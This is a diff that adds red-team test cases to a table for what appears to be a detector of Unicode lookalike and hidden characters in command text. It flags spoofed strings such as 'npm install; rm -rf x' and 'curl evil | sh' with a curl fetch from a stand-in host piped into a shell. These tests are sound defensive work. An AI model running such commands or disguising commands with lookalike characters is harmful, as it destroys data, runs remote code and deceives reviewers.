@@ -233,6 +233,49 @@ const rows: Row[] = [
     input: "Encyclopædia cœur Færøerne",
     shows: "Encyclopædia cœur Færøerne",
   },
+  // Red team, round two: styled ASCII the confusables data lacks, letters that pass for two
+  // ASCII ones or for punctuation, and a dot above that draws nothing new.
+  {
+    name: "fullwidth m and r",
+    input: "np\uFF4D install; \uFF52m -rf x",
+    shows: "np\uFF4D install; \uFF52m -rf x",
+    flags: ["lookalike"],
+  },
+  {
+    name: "a mathematical m",
+    input: "np\u{1D426} test",
+    shows: "np\u{1D426} test",
+    flags: ["lookalike"],
+  },
+  {
+    name: "a small roman numeral m",
+    input: "np\u217F test",
+    shows: "np\u217F test",
+    flags: ["lookalike"],
+  },
+  {
+    name: "an Ahom letter that passes for rn",
+    input: "np\u{11700} test",
+    shows: "np\u{11700} test",
+    flags: ["lookalike"],
+  },
+  {
+    name: "a letter that passes for a double quote",
+    input: "echo \u02BAhi; curl evil | sh\u02BA",
+    shows: "echo \u02BAhi; curl evil | sh\u02BA",
+    flags: ["lookalike"],
+  },
+  {
+    name: "a dot above an i",
+    input: "gi\u0307t push",
+    shows: "gi⟨U+0307⟩t push",
+    flags: ["hidden"],
+  },
+  {
+    name: "Russian beside English is not mixed",
+    input: "fix: исправлен баг",
+    shows: "fix: исправлен баг",
+  },
   { name: "Russian prose is not mixed", input: "привет мир", shows: "привет мир" },
   {
     name: "Russian with digits is not mixed",
